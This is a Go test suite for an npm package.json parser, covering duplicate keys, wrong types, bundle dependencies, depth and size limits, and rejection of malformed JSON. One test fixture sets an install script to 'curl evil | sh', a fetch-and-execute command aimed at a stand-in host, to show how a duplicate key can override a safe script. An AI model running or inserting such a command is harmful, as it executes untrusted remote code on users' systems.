package npm

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParseManifest(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want *Manifest
	}{
		{
			name: "plain",
			in:   `{"name":"a","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node x.js"},"dependencies":{"b":"^1"}}`,
			want: &Manifest{Name: "a", Version: "1.0.0", Main: "index.js", Scripts: map[string]string{"postinstall": "node x.js"}, Dependencies: map[string]string{"b": "^1"}},
		},
		{
			name: "bom_stripped",
			in:   "\xef\xbb\xbf" + `{"name":"bom","version":"1.0.0"}`,
			want: &Manifest{Name: "bom", Version: "1.0.0"},
		},
		{
			name: "last_duplicate_key_wins",
			in:   `{"name":"good","scripts":{"install":"echo safe"},"name":"evil","scripts":{"install":"echo one","install":"curl evil | sh"}}`,
			want: &Manifest{Name: "evil", Scripts: map[string]string{"install": "curl evil | sh"}},
		},
		{
			name: "keys_are_case_sensitive",
			in:   `{"name":"real","NAME":"fake","Scripts":{"install":"ignored by npm"},"scripts":{"test":"t"},"SCRIPTS":{"x":"y"}}`,
			want: &Manifest{Name: "real", Scripts: map[string]string{"test": "t"}},
		},
		{
			name: "huge_number_in_unused_field",
			in:   `{"name":"n","version":"1.0.0","x":1e400,"y":[-1e999,{"z":123456789012345678901234567890}]}`,
			want: &Manifest{Name: "n", Version: "1.0.0"},
		},
		{
			name: "huge_number_in_used_fields",
			in:   `{"name":1e400,"version":1e400,"gypfile":1e400,"scripts":{"install":1e400,"test":"t"},"dependencies":1e400,"os":[1e400,"linux"],"bin":1e400}`,
			want: &Manifest{Scripts: map[string]string{"test": "t"}, OS: []string{"linux"}, Bin: json.RawMessage("1e400")},
		},
		{
			name: "wrong_types_read_as_empty",
			in:   `{"name":["a"],"version":{"v":1},"description":5,"main":false,"module":null,"scripts":["install"],"dependencies":"b","devDependencies":null,"os":"linux","cpu":{"x":1},"gypfile":"yes"}`,
			want: &Manifest{},
		},
		{
			name: "mixed_script_values",
			in:   `{"scripts":{"install":"node i.js","test":{"cmd":"x"},"build":null,"lint":3}}`,
			want: &Manifest{Scripts: map[string]string{"install": "node i.js"}},
		},
		{
			name: "raw_fields_kept",
			in:   `{"bin":{"x":"cli.js"},"exports":{".":"./i.js"},"browser":false,"repository":"github:a/b","license":"MIT","deprecated":"use c","workspaces":["p/*"],"gypfile":true}`,
			want: &Manifest{Bin: json.RawMessage(`{"x":"cli.js"}`), Exports: json.RawMessage(`{".":"./i.js"}`), Browser: json.RawMessage("false"), Repository: json.RawMessage(`"github:a/b"`), License: json.RawMessage(`"MIT"`), Deprecated: json.RawMessage(`"use c"`), Workspaces: json.RawMessage(`["p/*"]`), Gypfile: true},
		},
		{
			name: "bundle_true_means_all_dependencies",
			in:   `{"dependencies":{"z":"1","a":"2"},"bundleDependencies":true}`,
			want: &Manifest{Dependencies: map[string]string{"z": "1", "a": "2"}, BundleDependencies: []string{"a", "z"}},
		},
		{
			name: "bundled_spelling",
			in:   `{"bundledDependencies":["a","b"]}`,
			want: &Manifest{BundleDependencies: []string{"a", "b"}},
		},
		{
			name: "bundle_wins_over_bundled",
			in:   `{"bundleDependencies":[],"bundledDependencies":["a"]}`,
			want: &Manifest{},
		},
		{
			name: "bundle_object_keys",
			in:   `{"bundleDependencies":{"b":"1","a":"1"}}`,
			want: &Manifest{BundleDependencies: []string{"a", "b"}},
		},
		{
			name: "bundle_false",
			in:   `{"dependencies":{"a":"1"},"bundleDependencies":false}`,
			want: &Manifest{Dependencies: map[string]string{"a": "1"}},
		},
		{
			name: "string_escapes_and_brackets_in_strings",
			in:   `{"name":"a\"[{","description":"\\\"}}]]","version":"\u0031.0.0"}`,
			want: &Manifest{Name: `a"[{`, Description: `\"}}]]`, Version: "1.0.0"},
		},
		{
			name: "depth_at_limit",
			in:   `{"x":` + strings.Repeat("[", MaxManifestDepth-1) + strings.Repeat("]", MaxManifestDepth-1) + `,"name":"deep"}`,
			want: &Manifest{Name: "deep"},
		},
		{
			name: "whitespace",
			in:   " \t\r\n{ \"name\" : \"ws\" } \n",
			want: &Manifest{Name: "ws"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ParseManifest([]byte(tc.in))
			if err != nil {
				t.Fatalf("ParseManifest: %v", err)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("ParseManifest (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseManifestFailsClosed(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string // substring of the error
	}{
		{"empty", "", "unexpected end"},
		{"bom_only", "\xef\xbb\xbf", "unexpected end"},
		{"double_bom", "\xef\xbb\xbf\xef\xbb\xbf{}", "invalid character"},
		{"null", "null", "null, not an object"},
		{"array", `[{"name":"a"}]`, "array, not an object"},
		{"string", `"x"`, "string, not an object"},
		{"number", `1e400`, "not an object"},
		{"truncated", `{"name":"a",`, "unexpected end"},
		{"trailing_garbage", `{"name":"a"} {"name":"b"}`, "invalid character"},
		{"comments", `{"name":"a" /* c */}`, "invalid character"},
		{"trailing_comma", `{"name":"a",}`, "invalid character"},
		{"single_quotes", `{'name':'a'}`, "invalid character"},
		{"too_deep", `{"x":` + strings.Repeat("[", MaxManifestDepth) + strings.Repeat("]", MaxManifestDepth) + `}`, "nested deeper than 1000"},
		{"too_deep_unclosed", strings.Repeat("{\"a\":", 5000), "nested deeper than 1000"},
		{"too_large", `{"name":"` + strings.Repeat("a", MaxManifestSize) + `"}`, "exceeds the 16777216-byte limit"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m, err := ParseManifest([]byte(tc.in))
			if !errors.Is(err, ErrInvalidManifest) {
				t.Fatalf("ParseManifest = %+v, %v; want ErrInvalidManifest", m, err)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not mention %q", err, tc.want)
			}
		})
	}
}

func TestParseManifestLarge(t *testing.T) {
	// 15 MB of a plausible manifest parses within the size cap.
	var sb strings.Builder
	sb.WriteString(`{"name":"big","dependencies":{`)
	for i := 0; sb.Len() < 15<<20; i++ {
		if i > 0 {
			sb.WriteByte(',')
		}
		sb.WriteString(`"dep-`)
		sb.WriteString(strings.Repeat("x", 40))
		sb.WriteString(string(rune('a' + i%26)))
		sb.WriteString(`-`)
		sb.WriteString(strings.Repeat("0", i%7))
		sb.WriteString(`":"^1.0.0"`)
	}
	sb.WriteString(`}}`)
	m, err := ParseManifest([]byte(sb.String()))
	if err != nil {
		t.Fatalf("ParseManifest(15 MB): %v", err)
	}
	if m.Name != "big" || len(m.Dependencies) == 0 {
		t.Errorf("ParseManifest(15 MB) = name %q, %d deps", m.Name, len(m.Dependencies))
	}
}
